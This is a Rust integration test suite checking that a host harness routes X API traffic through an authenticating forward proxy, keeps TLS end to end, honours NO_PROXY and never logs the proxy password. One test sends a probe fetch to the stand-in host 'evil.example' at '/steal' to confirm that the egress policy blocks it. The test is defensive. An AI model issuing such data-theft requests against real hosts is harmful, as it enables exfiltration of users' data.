//! A platform whose network reaches the internet only through a forward
//! proxy. Every outgoing request, the component's and the host's own
//! token requests, goes through a `CONNECT` tunnel with the proxy's
//! credentials; TLS runs inside the tunnel, end to end with the API, so
//! the proxy reads neither tokens nor posts. The hosts `NO_PROXY` names are
//! reached directly, a request the egress policy refuses never reaches the
//! proxy, a proxy that refuses fails the action before anything reaches
//! X, and the proxy's password shows nowhere.

mod support;

use credential_store::{MasterKey, Store, StoreLocation};
use host_harness::outgoing::HttpTimeouts;
use host_harness::proxy::ProxyPolicy;
use host_harness::transport::Transport;
use host_harness::{ActionError, ConnectRequest, ConnectionManager, HostConfig, Manifest};
use serde_json::json;
use std::collections::BTreeMap;
use std::sync::Arc;
use support::proxy::ForwardProxy;
use support::{DEFAULT_SCOPES, oauth_connection};
use x_emulator::Emulator;

/// `Basic base64("ops:pr0xy-pass")`.
const PROXY_AUTH: &str = "Basic b3BzOnByMHh5LXBhc3M=";

/// A transport trusting the emulator's CA, through `proxy`.
fn through(x: &Emulator, proxy: &ForwardProxy, no_proxy: &str) -> Transport {
    let url = proxy.origin.replace("http://", "http://ops:pr0xy-pass@");
    Transport::with_ca_pem(x.ca_pem().unwrap().as_bytes())
        .unwrap()
        .with_proxy(Some(ProxyPolicy::new(&url, no_proxy).unwrap()))
}

#[tokio::test(flavor = "multi_thread")]
async fn actions_and_the_hosts_token_requests_go_through_the_proxy_with_tls_end_to_end() {
    // Arrange: X over TLS, reachable only through a proxy that wants a
    // password; an app-only connection, whose token the host fetches.
    let x = Emulator::start_tls().await.unwrap();
    let proxy = ForwardProxy::start(Some(PROXY_AUTH)).await;
    let app = x.register_app("Proxied", &["http://127.0.0.1:8765/callback"], true);
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(
        Store::open(
            &StoreLocation::Sqlite(dir.path().join("connections.db")),
            &MasterKey::generate(),
        )
        .await
        .unwrap(),
    );
    let (connector, routes) = support::x_connector_on(&x, through(&x, &proxy, "")).await;
    let manager = ConnectionManager::new(store, connector, routes, HttpTimeouts::default());

    // Act.
    let record = manager
        .create(&ConnectRequest {
            method: "app_only".into(),
            fields: BTreeMap::from([
                ("client_id".into(), app.api_key.clone()),
                ("client_secret".into(), app.api_secret.clone()),
            ]),
            ..Default::default()
        })
        .await
        .unwrap();
    manager
        .activate(&record.id)
        .await
        .expect("the app token came through the proxy");
    let connection = manager.connection(&record.id).await.unwrap();
    let found = manager
        .connector()
        .invoke(
            &connection,
            "search.recent",
            &json!({"query": "engine"}).to_string(),
        )
        .await;

    // Assert: both went through tunnels to the emulator's address, with
    // the proxy's credentials; TLS named api.x.com inside them, and the
    // proxy saw none of what was sent.
    assert!(found.is_ok(), "{found:?}");
    let tunnels = proxy.tunnels();
    assert!(!tunnels.is_empty(), "nothing went through the proxy");
    for tunnel in &tunnels {
        assert_eq!(tunnel.target, x.authority());
        assert_eq!(tunnel.authorization.as_deref(), Some(PROXY_AUTH));
        let seen = String::from_utf8_lossy(&tunnel.client_bytes);
        assert!(!seen.contains("search"), "the proxy read the request");
        assert!(!seen.contains("Bearer"), "the proxy read a token");
        assert!(
            !seen.contains(&app.api_secret),
            "the proxy read the app secret"
        );
    }
    let paths: Vec<String> = x.traffic().iter().map(|e| e.path.clone()).collect();
    assert!(
        paths.iter().any(|p| p.ends_with("/oauth2/token")),
        "{paths:?}"
    );
    assert!(
        paths.iter().any(|p| p.contains("/tweets/search/recent")),
        "{paths:?}"
    );
    assert!(
        x.tls_connections()
            .iter()
            .all(|c| c.server_name.as_deref() == Some("api.x.com")),
        "{:?}",
        x.tls_connections()
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn hosts_no_proxy_names_are_reached_directly() {
    let x = Emulator::start_tls().await.unwrap();
    let proxy = ForwardProxy::start(None).await;
    let (connector, _) =
        support::x_connector_on(&x, through(&x, &proxy, "example.org, 127.0.0.1")).await;
    let ada = oauth_connection(&x, "ada", DEFAULT_SCOPES);

    let me = connector.invoke(&ada, "users.me", "{}").await;

    assert!(me.is_ok(), "{me:?}");
    assert!(proxy.requests().is_empty(), "{:?}", proxy.requests());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_proxy_that_refuses_the_tunnel_fails_the_action_before_x_and_shows_no_password() {
    let x = Emulator::start_tls().await.unwrap();
    let proxy = ForwardProxy::start(Some("Basic something-else")).await;
    let (connector, _) = support::x_connector_on(&x, through(&x, &proxy, "")).await;
    let ada = oauth_connection(&x, "ada", DEFAULT_SCOPES);

    let refused = connector.invoke(&ada, "users.me", "{}").await.unwrap_err();

    let text = format!("{refused:?} {refused}");
    assert!(!text.contains("pr0xy-pass"), "{text}");
    assert!(x.traffic().is_empty(), "the request went past the proxy");
    assert!(proxy.requests().iter().all(|r| r.starts_with("CONNECT ")));
    assert!(
        matches!(
            refused,
            ActionError::Timeout { .. } | ActionError::Upstream { .. }
        ),
        "{refused:?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_request_the_egress_policy_refuses_never_reaches_the_proxy() {
    use host_harness::Runtime;
    const PROBE_MANIFEST: &str = include_str!("fixtures/probe-component/manifest.json");
    let x = Emulator::start_tls().await.unwrap();
    let proxy = ForwardProxy::start(None).await;
    let runtime = Runtime::new(HostConfig {
        transport: Arc::new(through(&x, &proxy, "")),
        ..HostConfig::default()
    })
    .unwrap();
    let component = std::fs::read(component_artifacts::PROBE_COMPONENT_PATH).unwrap();
    let probe = runtime
        .load(&component, Manifest::from_json(PROBE_MANIFEST).unwrap())
        .await
        .unwrap();
    let ada = oauth_connection(&x, "ada", DEFAULT_SCOPES);

    let error = probe
        .invoke(
            &ada,
            "http.fetch",
            &json!({"authority": "evil.example", "path": "/steal"}).to_string(),
        )
        .await
        .unwrap_err();

    assert!(matches!(error, ActionError::Forbidden { .. }), "{error:?}");
    assert!(proxy.requests().is_empty(), "{:?}", proxy.requests());
}

#[tokio::test(flavor = "multi_thread")]
async fn the_command_line_takes_https_proxy_from_the_environment_and_never_prints_its_password() {
    // Arrange: `host-harness run` with HTTPS_PROXY set, as in a container.
    let x = Emulator::start_tls().await.unwrap();
    let proxy = ForwardProxy::start(Some(PROXY_AUTH)).await;
    let dir = tempfile::tempdir().unwrap();
    let ca = dir.path().join("ca.pem");
    std::fs::write(&ca, x.ca_pem().unwrap()).unwrap();
    let token = x.issue_user_token("ada", &["tweet.read", "users.read"]);
    let route = format!("https://{}", x.authority());
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_host-harness"));
    command
        .env(
            "HOST_HARNESS_CACHE_DIR",
            std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("compiled"),
        )
        .env(
            "HTTPS_PROXY",
            proxy.origin.replace("http://", "http://ops:pr0xy-pass@"),
        )
        .env_remove("NO_PROXY")
        .env_remove("no_proxy")
        .env("X_TOKEN", token)
        .arg("--data-dir")
        .arg(dir.path())
        .arg("--ca-cert")
        .arg(&ca)
        .args(["--route", &format!("api.x.com={route}")])
        .args(["-vvv", "run", "users.me", "--bearer-token-env", "X_TOKEN"]);

    // Act.
    let output = tokio::task::spawn_blocking(move || command.output().unwrap())
        .await
        .unwrap();

    // Assert.
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{stderr}");
    let me: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(me["user"]["username"], "ada");
    let tunnels = proxy.tunnels();
    assert_eq!(tunnels.len(), 1, "{tunnels:?}");
    assert_eq!(tunnels[0].authorization.as_deref(), Some(PROXY_AUTH));
    assert!(!stderr.contains("pr0xy-pass"), "the password was logged");
    assert!(
        !stderr.contains("b3BzOnByMHh5LXBhc3M"),
        "the credentials were logged"
    );
}
